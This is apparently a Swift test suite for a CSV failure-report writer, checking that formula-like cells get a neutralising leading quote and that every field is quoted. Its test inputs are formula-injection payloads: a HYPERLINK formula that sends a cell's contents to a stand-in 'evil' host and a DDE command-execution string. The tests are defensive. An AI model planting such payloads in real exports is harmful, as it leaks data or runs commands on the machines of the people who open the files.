import Storage
import Testing

/// The failure report's CSV, as a spreadsheet opens it.
@Suite struct FailureReportTests {
    @Test func cellsASpreadsheetWouldRunAsFormulasStartWithAQuote() {
        let line = FailureReport.csvLine([
            "7", #"=HYPERLINK("http://evil/?"&A2,"x")"#, "+15551230001", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain",
        ])
        #expect(
            line
                == #""7","'=HYPERLINK(""http://evil/?""&A2,""x"")","'+15551230001","'-2+3","'@SUM(A1)","'"#
                + "\tx\",\"'\rx\",\"plain\"\r\n"
        )
    }

    @Test func aFormulaAfterASeparatorOfAnyLocaleStartsWithAQuoteToo() {
        // Spreadsheets in `;` locales split on `;`, some on tabs or `|`: each piece would be a cell of its own.
        #expect(
            FailureReport.csvLine(["x;=cmd|' /C calc'!A0", "a, +1", "b\t@SUM(1)", "c| -2", "d\n=1"])
                == #""x;'=cmd|' /C calc'!A0","a, '+1","b"# + "\t'@SUM(1)\",\"c| '-2\",\"d\n'=1\"\r\n"
        )
    }

    @Test func everyFieldIsQuotedSoNoSeparatorInsideOneStartsACell() {
        #expect(
            FailureReport.csvLine(["1", "a@b.example", nil, "Email: No marketing consent", "x;y", #"say "hi""#])
                == #""1","a@b.example",,"Email: No marketing consent","x;y","say ""hi""""# + "\r\n"
        )
    }
}
